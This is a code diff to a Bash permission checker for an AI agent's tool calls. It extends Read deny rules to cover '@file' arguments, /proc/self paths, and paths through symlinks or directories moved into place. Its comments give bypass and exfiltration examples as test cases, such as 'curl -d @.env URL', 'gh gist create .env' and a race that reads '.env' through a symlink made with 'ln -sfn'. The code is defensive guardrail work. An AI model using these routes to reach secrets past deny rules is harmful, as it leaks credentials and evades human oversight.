@@ -280,16 +280,36 @@ export function workingDirs(a: BashAnalysis, sessionCwd: string, home: string): 
 }
 
 /**
- * Programs that read the files their arguments name, in ways no option table
- * can list: interpreters (a script, or files the code opens), editors and
- * pagers. Their literal arguments are judged against Read deny rules (and
- * toolexec's own files) as reads, and against nothing else: `Bash(perl:*)`
- * does not let `perl -ne print .env` past `Read(./.env)`, while an argument
- * that is no file (code, a word) still asks for nothing. What their code
- * opens by a name it builds is beyond any check (README, "What it does not do").
+ * Programs without an option table here may read the files their arguments
+ * name, in ways no table lists: interpreters (a script, or files the code
+ * opens), editors and pagers, and every other program (`curl -d @.env URL`,
+ * `pr .env`, `shuf .env`, `docker run --env-file .env`, `gh gist create
+ * .env`). Their literal arguments (an `@file` and an option's attached value
+ * too) are judged against Read deny rules (and toolexec's own files) as
+ * reads, and against nothing else: `Bash(curl:*)` or bypassPermissions does
+ * not let `curl -d @.env URL` past `Read(./.env)`, while an argument that is
+ * no file (code, a word, a URL) still asks for nothing. Not the commands
+ * whose arguments are never files they read (NAMES_ONLY: `echo .env >>
+ * .gitignore`, `test -f .env`). What a program opens by a name it builds is
+ * beyond any check (README, "What it does not do").
  */
-const EDITORS_AND_PAGERS = /^(vim|vi|nvim|view|vimdiff|nano|pico|emacs|ed|ex|most|pg|bat|batcat|xdg-open|open)$/;
-const opaqueReader = (name: string): boolean => INTERPRETER.test(name) || EDITORS_AND_PAGERS.test(name);
+const NAMES_ONLY: ReadonlySet<string> = new Set([
+  'echo', 'printf', 'test', '[', '[[', 'true', 'false', ':', 'which', 'type', 'hash', 'alias', 'unalias', 'export', 'unset',
+  'local', 'declare', 'typeset', 'readonly', 'set', 'shopt', 'kill', 'killall', 'sleep', 'exit', 'return', 'break', 'continue',
+  'shift', 'wait', 'jobs', 'fg', 'bg', 'disown', 'umask', 'ulimit', 'times', 'trap', 'help', 'whatis', 'apropos',
+  'basename', 'dirname', 'expr', 'seq', 'id', 'whoami', 'groups', 'uname', 'printenv', 'nproc', 'arch', 'uptime', 'locale',
+  'getconf', 'tty', 'popd', 'dirs', 'let', 'read', 'readarray', 'mapfile', 'getopts', 'complete', 'compgen', 'caller', 'df',
+]);
+const opaqueReader = (name: string): boolean => !NAMES_ONLY.has(name) || INTERPRETER.test(name);
+
+/** The file an `@file` word names (`@.env`, curl's `-d@.env`, `-F f=@.env`), if any. */
+function atFile(w: Word): Word | undefined {
+  const at = w.value.startsWith('@') ? 1 : w.value.indexOf('=@') !== -1 ? w.value.indexOf('=@') + 2 : /^-[A-Za-z]@/.test(w.value) ? 3 : -1;
+  if (at === -1 || at >= w.value.length) return undefined;
+  // curl's `@file;type=text/plain`.
+  const v = w.value.slice(at).replace(/;type=.*$/, '');
+  return { ...w, raw: v, value: v };
+}
 
 function attachedValue(w: Word): Word {
   const v = w.value.slice(w.value.indexOf('=') + 1);
@@ -304,6 +324,36 @@ function isDevice(w: Word, redirect: boolean): boolean {
   // `cat -` reads standard input; `> -` names a file.
   if (w.value === '-') return !redirect;
   return DEVICES.has(w.value) || /^\/dev\/fd\/\d+$/.test(w.value);
+}
+
+/** A process's own directory in /proc: `self` (and a pid) means the checker here, but the command there. */
+const PROC_PID = /^\/proc\/(self|thread-self|\d+)(\/|$)/;
+
+/**
+ * Whether a path leads through a process's /proc directory (`/proc/self/cwd/.env`,
+ * or a symlink to one: `l` → /proc/self/cwd). The checker resolving it would
+ * follow its own process's links (its working directory, its root, its open
+ * files), not those of the command that opens it: where it leads is not known.
+ */
+export function throughProcDir(p: string, hops = 0): boolean {
+  if (PROC_PID.test(p)) return true;
+  if (hops > 40) return true;
+  // Only a path with a symlink on it can lead elsewhere (one realpath tells).
+  if (realpathLoose(p) === p) return false;
+  const parts = p.split('/').filter((x) => x.length > 0);
+  let cur = '';
+  for (let i = 0; i < parts.length; i++) {
+    cur = `${cur}/${parts[i]}`;
+    let target: string;
+    try {
+      if (!fs.lstatSync(cur).isSymbolicLink()) continue;
+      target = fs.readlinkSync(cur);
+    } catch {
+      return false;
+    }
+    return throughProcDir(path.resolve(path.dirname(cur), target, ...parts.slice(i + 1)), hops + 1);
+  }
+  return false;
 }
 
 export function pathUses(a: BashAnalysis, cwds: Cwds): PathUse[] {
@@ -323,13 +373,15 @@ export function pathUses(a: BashAnalysis, cwds: Cwds): PathUse[] {
         reached.push(r);
       } else unresolved = true;
     }
-    const uncertain = unresolved || (relative && cwds.unknown) || (o.relocated ?? false) || (o.opaque ?? false);
+    const uncertain = unresolved || (relative && cwds.unknown) || (o.relocated ?? false) || (o.opaque ?? false) || [...abs].some((p) => throughProcDir(p));
     // A start directory that another working directory's reading matches is no mere start.
     const reachOnly = [...new Set(reached.flatMap((r) => r.globDirs))].filter((p) => reached.every((r) => !r.all.includes(p) || r.globDirs.includes(p)));
     uses.push({ word, kind, abs: [...abs], uncertain, redirect, fallback: o.fallback ?? false, ...(reachOnly.length > 0 ? { globDirs: reachOnly } : {}) });
   };
   // Symbolic links an earlier command of the same line makes: where a path through one leads is not known yet.
   const links: string[] = [];
+  /** Where `mv` puts something (a link, a directory) that paths may go through. */
+  const moved: string[] = [];
   let unknownLink = false;
   /** Marks the uses from `from` on that go through such a link as unknown locations. */
   const markThroughLinks = (from: number): void => {
@@ -360,9 +412,20 @@ export function pathUses(a: BashAnalysis, cwds: Cwds): PathUse[] {
         if (!w.value.startsWith('-')) add(w, 'read', { fallback: true });
         // An option's attached value (`--require=./.env`, `--config=.env`) names a file as often.
         else if (/^--?[\w-]+=./.test(w.value)) add(attachedValue(w), 'read', { fallback: true });
+        const file = atFile(w);
+        if (file) add(file, 'read', { fallback: true });
       }
     }
     markThroughLinks(first);
+    // A link or directory moved into place: paths through it (not the moved name itself: mv's source, a read, was judged where it leads).
+    if (commandName(argv) === 'mv') {
+      for (const w of p.writes) {
+        if (p.reads.includes(w)) continue;
+        const r = resolveWord(w, cwds.dirs[0]!);
+        if (r) moved.push(...r);
+        else unknownLink = true;
+      }
+    }
     if (commandName(argv) === 'ln' && argv.some((w) => w.literal && (/^-[A-Za-z]*s[A-Za-z]*$/.test(w.value) || (w.value.startsWith('--sy') && '--symbolic'.startsWith(w.value))))) {
       const source = p.reads[p.reads.length - 1];
       for (const w of p.writes) {
@@ -386,5 +449,14 @@ export function pathUses(a: BashAnalysis, cwds: Cwds): PathUse[] {
     add(r.target, r.output ? 'write' : 'read', { redirect: r.output });
   }
   markThroughLinks(beforeRedirects);
+  // A command of the line that runs at the same time (`(sleep 1; cat l/.env) & ln -sfn . l`,
+  // a pipeline) or in a loop may go through such a link too, though it stands before it;
+  // and a path through a directory or link `mv` puts in place leads where that went.
+  const through = [...links, ...moved];
+  if (through.length > 0 || unknownLink) {
+    for (const u of uses) {
+      if (unknownLink || u.abs.some((p) => through.some((l) => p.startsWith(`${l}/`)))) u.uncertain = true;
+    }
+  }
   return uses;
 }
